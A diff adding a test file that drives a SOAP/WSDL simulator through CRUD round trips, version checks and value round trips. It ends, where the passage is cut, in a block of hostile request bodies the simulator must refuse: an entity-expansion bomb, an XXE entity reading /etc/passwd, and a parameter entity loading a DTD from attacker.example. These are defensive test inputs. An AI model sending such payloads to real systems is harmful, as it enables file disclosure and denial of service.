@@ -1,0 +1,703 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { zipSync } from 'fflate';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { Artifact, JsonSchema } from '../../../artifact/artifact.js';
+import type { SoapOperation } from '../../../artifact/soap.js';
+import { isObject, type Json } from '../../../json.js';
+import { compileArtifact } from '../../../testing/fixtures.js';
+import { SimClient, type SimAnswer } from '../../../testing/sim-client.js';
+import { parseXml } from '../../../xml/parse-xml.js';
+import { childElement, childElements, namespaceFor, textOf, type XmlElement } from '../../../xml/xml-tree.js';
+import { SchemaRegistry } from '../../schemas/schema-registry.js';
+import { generateValue } from '../../values/generate-value.js';
+import { randomFor } from '../../values/random.js';
+import { writeElement } from './json-to-xml.js';
+import { readElement } from './xml-to-json.js';
+
+/**
+ * Every realistic WSDL fixture built into a Simulator and driven over raw envelopes: the
+ * operations it infers, each entity's create → read → update → list → delete → read-gone, the
+ * answers' envelopes and contents, and the refusals (unknown operations, the wrong SOAP
+ * version, hostile bodies) as Faults.
+ *
+ * The expectations below are written from what each fixture's own header comment says
+ * (its SOAP versions, style, entity and key) and from its operation names, read as a person
+ * reads them; none is taken from what the compiler answers.
+ */
+
+const DIR = new URL('../../../../test-fixtures/wsdl/', import.meta.url);
+const CATALOG = new URL('../../../../../composition/catalog/customers.wsdl', import.meta.url);
+const SOAP11 = 'http://schemas.xmlsoap.org/soap/envelope/';
+const SOAP12 = 'http://www.w3.org/2003/05/soap-envelope';
+const XSI = 'http://www.w3.org/2001/XMLSchema-instance';
+const NOW = new Date('2024-01-01T00:00:00.000Z');
+
+type Version = '1.1' | '1.2';
+type Behaviour = 'create' | 'read' | 'update' | 'delete' | 'list' | 'action' | 'static';
+/** [behaviour, resource, read_only] */
+type Expected = [Behaviour, string | null, boolean];
+
+interface EntityExpectation {
+  resource: string;
+  /** The element that keys the entity (the fixture's "keyed by"). */
+  id: string;
+  create: string;
+  read: string;
+  update: string;
+  list: string | null;
+  delete: string | null;
+  /** The detail element of the fault the read declares for an unknown id. */
+  notFound: string;
+}
+
+interface FixtureExpectation {
+  versions: Version[];
+  style: 'document' | 'rpc';
+  /** elementFormDefault of the message content's schema. */
+  qualified: boolean;
+  /** For rpc/literal: the soap:body namespace the `<Operation>Response` wrapper is in. */
+  rpcNamespace?: string;
+  operations: Record<string, Expected>;
+  entity: EntityExpectation | null;
+}
+
+const CUSTOMER_CRUD: Record<string, Expected> = {
+  CreateCustomer: ['create', 'Customer', false],
+  GetCustomer: ['read', 'Customer', true],
+  UpdateCustomer: ['update', 'Customer', false],
+  DeleteCustomer: ['delete', 'Customer', false],
+  ListCustomers: ['list', 'Customer', true],
+};
+const CUSTOMER_ENTITY: EntityExpectation = {
+  resource: 'Customer',
+  id: 'customerId',
+  create: 'CreateCustomer',
+  read: 'GetCustomer',
+  update: 'UpdateCustomer',
+  list: 'ListCustomers',
+  delete: 'DeleteCustomer',
+  notFound: 'CustomerNotFound',
+};
+
+/** By upload name: a file of test-fixtures/wsdl, a bundle folder there (zipped), or `catalog`. */
+const FIXTURES: Record<string, FixtureExpectation> = {
+  // "Document/literal wrapped, one portType bound twice: SOAP 1.1 and SOAP 1.2. Entity: Customer, keyed by customerId."
+  'crm-customers.wsdl': {
+    versions: ['1.1', '1.2'],
+    style: 'document',
+    qualified: true,
+    operations: { ...CUSTOMER_CRUD, SearchCustomers: ['list', 'Customer', true], Ping: ['static', null, true] },
+    entity: CUSTOMER_ENTITY,
+  },
+  // The composition catalog's customer service: the same CRUD, bound for 1.1 and 1.2.
+  catalog: { versions: ['1.1', '1.2'], style: 'document', qualified: true, operations: CUSTOMER_CRUD, entity: { ...CUSTOMER_ENTITY } },
+  // "SOAP 1.1, rpc/literal ... Entity: Account, keyed by accountNumber." Closing an account is not deleting it.
+  'bank-accounts-rpc.wsdl': {
+    versions: ['1.1'],
+    style: 'rpc',
+    qualified: true,
+    rpcNamespace: 'http://ws.firstharbour-bank.example/core/AccountManagement/v3',
+    operations: {
+      CreateAccount: ['create', 'Account', false],
+      GetAccount: ['read', 'Account', true],
+      UpdateAccount: ['update', 'Account', false],
+      CloseAccount: ['action', 'Account', false],
+      ListAccounts: ['list', 'Account', true],
+      GetBalance: ['static', null, true],
+      TransferFunds: ['static', null, false],
+      ValidateIban: ['static', null, true],
+    },
+    entity: { resource: 'Account', id: 'accountNumber', create: 'CreateAccount', read: 'GetAccount', update: 'UpdateAccount', list: 'ListAccounts', delete: null, notFound: 'AccountNotFoundFault' },
+  },
+  // "SOAP 1.1, document/literal wrapped ... Entity: Employee, keyed by EmployeeID: AddEmployee / GetEmployee / UpdateEmployee / RemoveEmployee / FindEmployees."
+  'bundle-payroll': {
+    versions: ['1.1'],
+    style: 'document',
+    qualified: true,
+    operations: {
+      AddEmployee: ['create', 'Employee', false],
+      GetEmployee: ['read', 'Employee', true],
+      UpdateEmployee: ['update', 'Employee', false],
+      RemoveEmployee: ['delete', 'Employee', false],
+      FindEmployees: ['list', 'Employee', true],
+      CalculatePayslip: ['static', null, true],
+    },
+    entity: { resource: 'Employee', id: 'EmployeeID', create: 'AddEmployee', read: 'GetEmployee', update: 'UpdateEmployee', list: 'FindEmployees', delete: 'RemoveEmployee', notFound: 'EmployeeNotFoundFault' },
+  },
+  // "document/literal wrapped, SOAP 1.1 and SOAP 1.2 bindings of one portType. Entity: Booking, keyed by bookingReference: CreateBooking / RetrieveBooking / ModifyBooking / CancelBooking, plus SearchAvailability."
+  'bundle-travel': {
+    versions: ['1.1', '1.2'],
+    style: 'document',
+    qualified: true,
+    operations: {
+      CreateBooking: ['create', 'Booking', false],
+      RetrieveBooking: ['read', 'Booking', true],
+      ModifyBooking: ['update', 'Booking', false],
+      CancelBooking: ['action', 'Booking', false],
+      SearchAvailability: ['static', null, true],
+    },
+    entity: { resource: 'Booking', id: 'bookingReference', create: 'CreateBooking', read: 'RetrieveBooking', update: 'ModifyBooking', list: null, delete: null, notFound: 'BookingNotFound' },
+  },
+  // "SOAP 1.2 only, document/literal BARE ... elementFormDefault="unqualified" ... Entity: Shipment, keyed by trackingNumber."
+  'carrier-shipping-soap12.wsdl': {
+    versions: ['1.2'],
+    style: 'document',
+    qualified: false,
+    operations: {
+      CreateShipment: ['create', 'Shipment', false],
+      GetShipment: ['read', 'Shipment', true],
+      UpdateShipment: ['update', 'Shipment', false],
+      CancelShipment: ['action', 'Shipment', false],
+      ListShipments: ['list', 'Shipment', true],
+      CalculateRate: ['static', null, true],
+      ValidateAddress: ['static', null, true],
+    },
+    entity: { resource: 'Shipment', id: 'trackingNumber', create: 'CreateShipment', read: 'GetShipment', update: 'UpdateShipment', list: 'ListShipments', delete: null, notFound: 'ShipmentNotFound' },
+  },
+  // "SOAP 1.1, document/literal wrapped. Entity: PermitApplication, keyed by applicationNumber ... Non-CRUD: GetCategoryTree, UploadAttachment."
+  'public-permits-register.wsdl': {
+    versions: ['1.1'],
+    style: 'document',
+    qualified: true,
+    operations: {
+      CreatePermitApplication: ['create', 'PermitApplication', false],
+      GetPermitApplication: ['read', 'PermitApplication', true],
+      UpdatePermitApplication: ['update', 'PermitApplication', false],
+      WithdrawPermitApplication: ['action', 'PermitApplication', false],
+      ListPermitApplications: ['list', 'PermitApplication', true],
+      GetCategoryTree: ['static', null, true],
+      UploadAttachment: ['static', null, false],
+    },
+    entity: {
+      resource: 'PermitApplication',
+      id: 'applicationNumber',
+      create: 'CreatePermitApplication',
+      read: 'GetPermitApplication',
+      update: 'UpdatePermitApplication',
+      list: 'ListPermitApplications',
+      delete: null,
+      notFound: 'NotFound',
+    },
+  },
+  // "document/literal BARE, no entities at all: every operation answers from the schema. ... two bindings (SOAP 1.1 and SOAP 1.2)."
+  'weather-bare.wsdl': {
+    versions: ['1.1', '1.2'],
+    style: 'document',
+    qualified: true,
+    operations: { GetForecast: ['static', null, true], GetCurrentConditions: ['static', null, true], Ping: ['static', null, true] },
+    entity: null,
+  },
+  // "getOrder, listOrders and getOrderCount are rpc/ENCODED ... createOrder, updateOrder, deleteOrder and ping are rpc/literal."
+  // Encoded operations are not simulated, so no read of an Order is left and the literal ones answer from the schema.
+  'legacy-encoded.wsdl': {
+    versions: ['1.1'],
+    style: 'rpc',
+    qualified: false,
+    rpcNamespace: 'urn:orderdesk:legacy',
+    operations: { createOrder: ['static', null, false], updateOrder: ['static', null, false], deleteOrder: ['static', null, false], ping: ['static', null, true] },
+    entity: null,
+  },
+};
+
+/** Each upload: a lone WSDL as it is, a bundle folder zipped (its WSDL at the top first), the catalog's WSDL. */
+function upload(name: string): Uint8Array {
+  if (name === 'catalog') return readFileSync(CATALOG);
+  if (!name.startsWith('bundle-')) return readFileSync(new URL(name, DIR));
+  const root = fileURLToPath(new URL(`${name}/`, DIR));
+  const files = readdirSync(root, { recursive: true, withFileTypes: true })
+    .filter((f) => f.isFile())
+    .map((f) => relative(root, join(f.parentPath, f.name)).split('\\').join('/'))
+    .sort((a, b) => Number(b.endsWith('.wsdl')) - Number(a.endsWith('.wsdl')) || a.split('/').length - b.split('/').length || a.localeCompare(b));
+  return zipSync(Object.fromEntries(files.map((f) => [f, readFileSync(join(root, f))])));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Envelopes in and out
+
+const envNs = (version: Version) => (version === '1.1' ? SOAP11 : SOAP12);
+
+function requestEnvelope(version: Version, payload: string): string {
+  return `<?xml version="1.0" encoding="utf-8"?><env:Envelope xmlns:env="${envNs(version)}"><env:Body>${payload}</env:Body></env:Envelope>`;
+}
+
+function soapHeaders(version: Version, action: string | null): Record<string, string> {
+  if (version === '1.1') return { 'content-type': 'text/xml; charset=utf-8', soapaction: `"${action ?? ''}"` };
+  return { 'content-type': `application/soap+xml; charset=utf-8${action === null ? '' : `; action="${action}"`}` };
+}
+
+interface Sim {
+  name: string;
+  artifact: Artifact;
+  registry: SchemaRegistry;
+  client: SimClient;
+  ops: Record<string, SoapOperation>;
+}
+
+async function open(name: string, seed = 'fixtures', sampleRecords = 0): Promise<Sim> {
+  const { artifact } = await compileArtifact(upload(name));
+  const client = await SimClient.open(artifact, { seed, sampleRecords, start: NOW });
+  return { name, artifact, registry: new SchemaRegistry(artifact), client, ops: artifact.soap!.operations };
+}
+
+function send(sim: Sim, operation: string, value: Json, version: Version): SimAnswer {
+  const op = sim.ops[operation];
+  if (op === undefined) throw new Error(`${sim.name} has no operation ${operation}`);
+  const action = op.bindings.find((b) => b.version === version)?.action ?? op.action;
+  const body = requestEnvelope(version, writeElement(op.input.element, value, op.input.schema, sim.artifact.schemas));
+  return sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, action), body });
+}
+
+/** The answer's envelope, checked to be well-formed and of the request's version, and its Body's first child. */
+function bodyOf(answer: SimAnswer, version: Version): XmlElement | null {
+  const root = parseXml(answer.text);
+  expect(root.ns, answer.text).toBe(envNs(version));
+  expect(root.local).toBe('Envelope');
+  const body = childElement(root, envNs(version), 'Body');
+  expect(body, answer.text).toBeDefined();
+  expect(answer.headers['content-type']).toMatch(version === '1.1' ? /^text\/xml/ : /^application\/soap\+xml/);
+  return childElements(body!)[0] ?? null;
+}
+
+/** A success answer: 200, the output element, content that reads back with the output schema and validates against it. */
+function success(sim: Sim, operation: string, answer: SimAnswer, version: Version): Json {
+  const op = sim.ops[operation]!;
+  expect(answer.status, `${operation} ${version}: ${answer.text}`).toBe(200);
+  const payload = bodyOf(answer, version);
+  expect(payload, answer.text).not.toBeNull();
+  expect({ ns: payload!.ns, local: payload!.local }).toEqual(op.output!.element);
+  const read = readElement(payload!, op.output!.schema, sim.artifact.schemas);
+  if (!('value' in read)) throw new Error(`${operation}: the answer does not read back: ${read.path}: ${read.problem}\n${answer.text}`);
+  const verdict = sim.registry.validate(op.output!.schema, read.value);
+  expect(verdict.problem, `${operation} ${version}: ${answer.text}`).toBeNull();
+  return read.value;
+}
+
+interface ReadFault {
+  /** The code's local name (Client, Sender, VersionMismatch...), its prefix resolved to the envelope's namespace. */
+  code: string;
+  reason: string;
+  detail: XmlElement | null;
+}
+
+/** A Fault answer of the request's version, well-formed, with the HTTP status SOAP's HTTP binding gives it. */
+function faultOf(answer: SimAnswer, version: Version): ReadFault {
+  const payload = bodyOf(answer, version);
+  expect(payload, answer.text).not.toBeNull();
+  expect([payload!.ns, payload!.local], answer.text).toEqual([envNs(version), 'Fault']);
+  let codeElement: XmlElement | undefined;
+  let reason: string;
+  let detailHolder: XmlElement | undefined;
+  if (version === '1.1') {
+    codeElement = childElement(payload!, '', 'faultcode');
+    reason = textOf(childElement(payload!, '', 'faultstring')!);
+    detailHolder = childElement(payload!, '', 'detail');
+  } else {
+    codeElement = childElement(childElement(payload!, SOAP12, 'Code')!, SOAP12, 'Value');
+    reason = textOf(childElement(childElement(payload!, SOAP12, 'Reason')!, SOAP12, 'Text')!);
+    detailHolder = childElement(payload!, SOAP12, 'Detail');
+  }
+  expect(codeElement, answer.text).toBeDefined();
+  const [prefix, local] = textOf(codeElement!).trim().split(':') as [string, string];
+  expect(namespaceFor(codeElement!, prefix), answer.text).toBe(envNs(version));
+  const code = local.split('.')[0]!;
+  if (version === '1.1') expect(answer.status).toBe(500);
+  else expect(answer.status).toBe(code === 'Sender' ? 400 : 500);
+  return { code, reason, detail: detailHolder === undefined ? null : (childElements(detailHolder)[0] ?? null) };
+}
+
+const senderCode = (version: Version) => (version === '1.1' ? 'Client' : 'Sender');
+
+// ---------------------------------------------------------------------------------------------
+// Values
+
+function resolve(sim: Sim, schema: JsonSchema): JsonSchema {
+  let at = schema;
+  for (let hops = 0; hops < 16 && isObject(at) && typeof at.$ref === 'string'; hops += 1) at = sim.registry.resolve(at) ?? at;
+  return at;
+}
+
+/** The property schemas of an object schema, through `$ref` and `allOf` (an `xs:extension`). */
+function propertiesOf(sim: Sim, schema: JsonSchema, depth = 0): Record<string, JsonSchema> {
+  const resolved = resolve(sim, schema);
+  if (!isObject(resolved) || depth > 8) return {};
+  const out: Record<string, JsonSchema> = {};
+  for (const part of (resolved.allOf as JsonSchema[] | undefined) ?? []) Object.assign(out, propertiesOf(sim, part, depth + 1));
+  Object.assign(out, (resolved.properties as Record<string, JsonSchema> | undefined) ?? {});
+  return out;
+}
+
+function generated(sim: Sim, schema: JsonSchema, seed: string): Json {
+  return generateValue(schema, { registry: sim.registry, random: randomFor(sim.name, seed), now: NOW });
+}
+
+/**
+ * The value with the id element set to `id` wherever the schema puts it (the message itself
+ * when it is the id, as a bare `<TrackingNumber>` is), creating the objects on the way.
+ */
+function withId(sim: Sim, schema: JsonSchema, value: Json, idName: string, id: Json, depth = 0): Json {
+  const props = propertiesOf(sim, schema);
+  if (Object.keys(props).length === 0) return depth === 0 ? id : value;
+  const out: Record<string, Json> = isObject(value) ? { ...value } : {};
+  if (Object.hasOwn(props, idName)) {
+    out[idName] = id;
+    return out;
+  }
+  for (const [key, inner] of Object.entries(props)) {
+    if (depth < 4 && containsProperty(sim, inner, idName, depth + 1)) {
+      out[key] = withId(sim, inner, out[key] ?? {}, idName, id, depth + 1);
+      return out;
+    }
+  }
+  return out;
+}
+
+function containsProperty(sim: Sim, schema: JsonSchema, name: string, depth: number): boolean {
+  const props = propertiesOf(sim, schema);
+  if (Object.hasOwn(props, name)) return true;
+  return depth < 4 && Object.values(props).some((inner) => containsProperty(sim, inner, name, depth + 1));
+}
+
+/** Every value held under the key `name`, anywhere in the value. */
+function valuesAt(value: Json, name: string): Json[] {
+  const out: Json[] = [];
+  const walk = (at: Json) => {
+    if (Array.isArray(at)) at.forEach(walk);
+    else if (isObject(at)) {
+      for (const [key, inner] of Object.entries(at)) {
+        if (key === name) out.push(inner);
+        walk(inner);
+      }
+    }
+  };
+  walk(value);
+  return out;
+}
+
+/** The object holding `name` = `id` in an answer: the record itself. */
+function recordWith(value: Json, name: string, id: Json): Record<string, Json> | null {
+  if (Array.isArray(value)) {
+    for (const item of value) {
+      const found = recordWith(item, name, id);
+      if (found !== null) return found;
+    }
+    return null;
+  }
+  if (!isObject(value)) return null;
+  if (Object.hasOwn(value, name) && JSON.stringify(value[name]) === JSON.stringify(id)) return value as Record<string, Json>;
+  for (const inner of Object.values(value)) {
+    const found = recordWith(inner, name, id);
+    if (found !== null) return found;
+  }
+  return null;
+}
+
+/** An id of the same shape as `id` that no record has: its last digit or letter moved on by one. */
+function otherId(id: Json): Json {
+  if (typeof id === 'number') return id + 1;
+  const text = String(id);
+  const last = text.at(-1)!;
+  const next = /[0-9]/.test(last) ? String((Number(last) + 1) % 10) : /[A-Y]/.test(last) ? String.fromCharCode(last.charCodeAt(0) + 1) : /[a-y]/.test(last) ? String.fromCharCode(last.charCodeAt(0) + 1) : last === 'Z' ? 'A' : 'a';
+  return text.slice(0, -1) + next;
+}
+
+/** The part of a create or update request that is the record: the object whose keys the record shares most. */
+function recordPart(input: Json, record: Record<string, Json>): Record<string, Json> | null {
+  const candidates: Record<string, Json>[] = [];
+  const walk = (at: Json, depth: number) => {
+    if (!isObject(at) || depth > 2) return;
+    candidates.push(at as Record<string, Json>);
+    for (const inner of Object.values(at)) walk(inner, depth + 1);
+  };
+  walk(input, 0);
+  const score = (c: Record<string, Json>) => Object.keys(c).filter((k) => Object.hasOwn(record, k)).length;
+  const best = candidates.sort((a, b) => score(b) - score(a))[0];
+  return best === undefined || score(best) === 0 ? null : best;
+}
+
+// ---------------------------------------------------------------------------------------------
+
+describe('WSDL fixtures built into Simulators', () => {
+  for (const [name, fixture] of Object.entries(FIXTURES)) {
+    describe(name, () => {
+      it('infers the operations, behaviours, resources and read_only the fixture describes', async () => {
+        const { outcome, artifact } = await compileArtifact(upload(name));
+        const inferred = Object.fromEntries(outcome.operations.map((op) => [op.operation, [op.behaviour, op.resource, op.read_only]]));
+        expect(inferred).toEqual(fixture.operations);
+        for (const [id, op] of Object.entries(artifact.soap!.operations)) {
+          expect(op.style, id).toBe(fixture.style);
+          expect(op.bindings.map((b) => b.version).sort(), id).toEqual(fixture.versions);
+        }
+        if (fixture.entity !== null) {
+          expect(outcome.entities.map((e) => [e.resource, e.id_field])).toEqual([[fixture.entity.resource, fixture.entity.id]]);
+        }
+      });
+
+      if (fixture.entity !== null) {
+        const entity = fixture.entity;
+        for (const version of fixture.versions) {
+          it(`drives ${entity.resource}'s create, read, update, list, delete and read-gone over SOAP ${version} envelopes`, async () => {
+            const sim = await open(name);
+            const ops = sim.ops;
+            // create
+            const createInput = generated(sim, ops[entity.create]!.input.schema, `create ${version}`);
+            const created = success(sim, entity.create, send(sim, entity.create, createInput, version), version);
+            const ids = valuesAt(created, entity.id);
+            expect(ids.length, `${entity.create} answers the new ${entity.id}: ${JSON.stringify(created)}`).toBeGreaterThan(0);
+            const id = ids[0]!;
+            const createdRecord = recordWith(created, entity.id, id)!;
+            // what was sent is what is kept
+            const sent = recordPart(createInput, createdRecord);
+            expect(sent, `the create request's record: ${JSON.stringify(createInput)}`).not.toBeNull();
+            // read it back by its id
+            const readInput = withId(sim, ops[entity.read]!.input.schema, generated(sim, ops[entity.read]!.input.schema, 'read'), entity.id, id);
+            const read = success(sim, entity.read, send(sim, entity.read, readInput, version), version);
+            const readRecord = recordWith(read, entity.id, id);
+            expect(readRecord, `${entity.read} of ${JSON.stringify(id)}: ${JSON.stringify(read)}`).not.toBeNull();
+            for (const [key, value] of Object.entries(sent!)) {
+              if (key !== entity.id && Object.hasOwn(createdRecord, key)) expect(readRecord![key], `${key} read back`).toEqual(value);
+            }
+            // update
+            const updateSchema = ops[entity.update]!.input.schema;
+            const updateInput = withId(sim, updateSchema, generated(sim, updateSchema, `update ${version}`), entity.id, id);
+            const updated = success(sim, entity.update, send(sim, entity.update, updateInput, version), version);
+            const updatedRecord = recordWith(updated, entity.id, id);
+            expect(updatedRecord, `${entity.update} answers the record: ${JSON.stringify(updated)}`).not.toBeNull();
+            const changed = recordPart(updateInput, updatedRecord!);
+            const reread = recordWith(success(sim, entity.read, send(sim, entity.read, readInput, version), version), entity.id, id);
+            expect(reread).toEqual(updatedRecord);
+            for (const [key, value] of Object.entries(changed ?? {})) {
+              if (key !== entity.id && Object.hasOwn(updatedRecord!, key) && !isObject(value)) expect(reread![key], `${key} after the update`).toEqual(value);
+            }
+            // list: the record is there
+            if (entity.list !== null) {
+              const listed = success(sim, entity.list, send(sim, entity.list, {}, version), version);
+              expect(valuesAt(listed, entity.id), JSON.stringify(listed)).toContainEqual(id);
+            }
+            // delete, then the read answers the declared not-found fault
+            let gone: Json = otherId(id);
+            if (entity.delete !== null) {
+              const deleteSchema = ops[entity.delete]!.input.schema;
+              const deleteInput = withId(sim, deleteSchema, generated(sim, deleteSchema, 'delete'), entity.id, id);
+              success(sim, entity.delete, send(sim, entity.delete, deleteInput, version), version);
+              gone = id;
+            }
+            const missing = send(sim, entity.read, withId(sim, ops[entity.read]!.input.schema, readInput, entity.id, gone), version);
+            const fault = faultOf(missing, version);
+            expect(fault.code).toBe(senderCode(version));
+            const declared = ops[entity.read]!.faults.find((f) => f.element?.local === entity.notFound);
+            expect(declared, `${entity.read} declares ${entity.notFound}`).toBeDefined();
+            expect(fault.detail && { ns: fault.detail.ns, local: fault.detail.local }, missing.text).toEqual(declared!.element);
+            // and the list no longer has it
+            if (entity.list !== null && entity.delete !== null) {
+              const listed = success(sim, entity.list, send(sim, entity.list, {}, version), version);
+              expect(valuesAt(listed, entity.id)).not.toContainEqual(id);
+            }
+          });
+        }
+      }
+
+      it('answers every operation, for a generated request, with its output element or a Fault of the version', async () => {
+        const sim = await open(name, 'every', 2);
+        for (const version of fixture.versions) {
+          for (const [id, op] of Object.entries(sim.ops)) {
+            const answer = send(sim, id, generated(sim, op.input.schema, `${id} ${version}`), version);
+            if (answer.status === 200) success(sim, id, answer, version);
+            else expect(faultOf(answer, version).code, `${id}: ${answer.text}`).toMatch(/^(Client|Sender|Server|Receiver)$/);
+          }
+        }
+      });
+
+      if (fixture.style === 'rpc') {
+        it("answers rpc/literal calls with the <Operation>Response wrapper in the binding's namespace, parts unqualified", async () => {
+          const sim = await open(name, 'rpc', 2);
+          for (const [id, op] of Object.entries(sim.ops)) {
+            expect(op.output!.element).toEqual({ ns: fixture.rpcNamespace, local: `${op.name}Response` });
+            const answer = send(sim, id, generated(sim, op.input.schema, id), '1.1');
+            if (answer.status !== 200) continue;
+            const payload = bodyOf(answer, '1.1')!;
+            expect([payload.ns, payload.local]).toEqual([fixture.rpcNamespace, `${op.name}Response`]);
+            for (const part of childElements(payload)) expect(part.ns, `${id} part ${part.local}`).toBe('');
+          }
+        });
+      }
+
+      if (!fixture.qualified && fixture.style === 'document') {
+        it('answers local elements unqualified (elementFormDefault="unqualified")', async () => {
+          const sim = await open(name, 'unqualified', 2);
+          let checked = 0;
+          for (const [id, op] of Object.entries(sim.ops)) {
+            const answer = send(sim, id, generated(sim, op.input.schema, id), fixture.versions[0]!);
+            if (answer.status !== 200) continue;
+            const payload = bodyOf(answer, fixture.versions[0]!)!;
+            expect(payload.ns).not.toBe('');
+            for (const child of childElements(payload)) {
+              // A reference to a global element (ref="tns:Package") stays qualified.
+              const global = sim.artifact.soap!.documents.some((d) => d.text.includes(`ref="tns:${child.local}"`));
+              expect(child.ns, `${id}: <${child.name}>`).toBe(global ? payload.ns : '');
+              checked += 1;
+            }
+          }
+          expect(checked).toBeGreaterThan(0);
+        });
+      }
+
+      it('refuses an unknown operation with a Client/Sender Fault', async () => {
+        const sim = await open(name, 'unknown');
+        for (const version of fixture.versions) {
+          const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, 'urn:nowhere:NoSuchOperation'), body: requestEnvelope(version, '<x:NoSuchOperation xmlns:x="urn:nowhere"><x:a>1</x:a></x:NoSuchOperation>') });
+          expect(faultOf(answer, version).code).toBe(senderCode(version));
+        }
+      });
+
+      it('serves the WSDL at ?wsdl', async () => {
+        const sim = await open(name, 'wsdl');
+        const answer = sim.client.call({ method: 'GET', path: '/', query: 'wsdl' });
+        expect(answer.status).toBe(200);
+        const root = parseXml(answer.text);
+        expect([root.ns, root.local]).toEqual(['http://schemas.xmlsoap.org/wsdl/', 'definitions']);
+      });
+    });
+  }
+});
+
+describe('versions', () => {
+  it('a SOAP 1.2 request to an operation only bound for 1.1 gets a VersionMismatch Fault, and the reverse too', async () => {
+    const bank = await open('bank-accounts-rpc.wsdl');
+    const op = bank.ops.GetAccount!;
+    const payload = writeElement(op.input.element, { accountNumber: '0123456789' }, op.input.schema, bank.artifact.schemas);
+    const answer = bank.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.2', null), body: requestEnvelope('1.2', payload) });
+    const fault = faultOf(answer, '1.2');
+    expect(fault.code).toBe('VersionMismatch');
+    const ship = await open('carrier-shipping-soap12.wsdl');
+    const get = ship.ops.GetShipment!;
+    const body = requestEnvelope('1.1', writeElement(get.input.element, '1Z0000000000000000', get.input.schema, ship.artifact.schemas));
+    expect(faultOf(ship.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.1', get.action), body }), '1.1').code).toBe('VersionMismatch');
+  });
+
+  it('an envelope whose namespace disagrees with the content type is refused in the content type’s version', async () => {
+    const sim = await open('crm-customers.wsdl');
+    const op = sim.ops.GetCustomer!;
+    const body = requestEnvelope('1.2', writeElement(op.input.element, { customerId: 'CUS-00000001' }, op.input.schema, sim.artifact.schemas));
+    const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.1', op.action), body });
+    expect(faultOf(answer, '1.1').code).toMatch(/^(VersionMismatch|Client)$/);
+  });
+});
+
+describe('values survive a create → read round trip', () => {
+  it('bank (rpc): enums, simpleContent with an attribute, arrays of complex items', async () => {
+    const sim = await open('bank-accounts-rpc.wsdl', 'values');
+    const account = {
+      accountType: 'SAVINGS',
+      currency: 'CHF',
+      holder: [
+        { partyId: 41, fullName: 'Ada Lovelace', role: 'PRIMARY' },
+        { partyId: 42, fullName: 'Charles Babbage', role: 'JOINT' },
+      ],
+      nickname: 'Rainy <day> & "fund"',
+      overdraftLimit: { $value: 250.5, currency: 'EUR' },
+      branchCode: 'ZH-001',
+    };
+    const created = success(sim, 'CreateAccount', send(sim, 'CreateAccount', { account, channel: 'BRANCH' }, '1.1'), '1.1');
+    const id = valuesAt(created, 'accountNumber')[0]!;
+    const read = success(sim, 'GetAccount', send(sim, 'GetAccount', { accountNumber: id }, '1.1'), '1.1');
+    expect(recordWith(read, 'accountNumber', id)).toMatchObject(account);
+  });
+
+  it('payroll (bundle): xs:extension content, nillable (xsi:nil) and choices', async () => {
+    const sim = await open('bundle-payroll', 'values');
+    const add = sim.ops.AddEmployee!;
+    // A generated employee, then a nil manager: the reader must give back null, not the text.
+    const input = generated(sim, add.input.schema, 'nil') as Record<string, Json>;
+    const record = Object.values(input).find(isObject) as Record<string, Json>;
+    expect(record, JSON.stringify(input)).toBeDefined();
+    record.ManagerID = null;
+    const xml = writeElement(add.input.element, input, add.input.schema, sim.artifact.schemas);
+    expect(xml).toContain(`xmlns:xsi="${XSI}"`);
+    expect(xml).toMatch(/ManagerID xsi:nil="true"\/>/);
+    const created = success(sim, 'AddEmployee', send(sim, 'AddEmployee', input, '1.1'), '1.1');
+    const id = valuesAt(created, 'EmployeeID')[0]!;
+    const read = success(sim, 'GetEmployee', send(sim, 'GetEmployee', { EmployeeID: id }, '1.1'), '1.1');
+    const kept = recordWith(read, 'EmployeeID', id);
+    expect(kept, JSON.stringify(read)).not.toBeNull();
+    for (const [key, value] of Object.entries(record)) if (key !== 'EmployeeID') expect(kept![key], key).toEqual(value);
+  });
+
+  it('crm: a choice branch, an extension of Party, arrays and enums', async () => {
+    const sim = await open('crm-customers.wsdl', 'values');
+    for (const version of ['1.1', '1.2'] as const) {
+      const input = generated(sim, sim.ops.CreateCustomer!.input.schema, `choice ${version}`) as Record<string, Json>;
+      const created = success(sim, 'CreateCustomer', send(sim, 'CreateCustomer', input, version), version);
+      const id = valuesAt(created, 'customerId')[0]!;
+      const read = success(sim, 'GetCustomer', send(sim, 'GetCustomer', { customerId: id }, version), version);
+      const kept = recordWith(read, 'customerId', id)!;
+      const sent = input.customer as Record<string, Json>;
+      for (const [key, value] of Object.entries(sent)) expect(kept[key], key).toEqual(value);
+    }
+  });
+});
+
+describe('hostile request bodies', () => {
+  const HOSTILE: Record<string, string> = {
+    'a DOCTYPE with entities': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4"><c:customerId>&lol2;</c:customerId></c:GetCustomer></soap:Body></soap:Envelope>`,
+    'an external entity': `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4"><c:customerId>&xxe;</c:customerId></c:GetCustomer></soap:Body></soap:Envelope>`,
+    'a parameter entity': `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Body/></soap:Envelope>`,
+    '300-deep nesting': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4">${'<c:x>'.repeat(300)}1${'</c:x>'.repeat(300)}</c:GetCustomer></soap:Body></soap:Envelope>`,
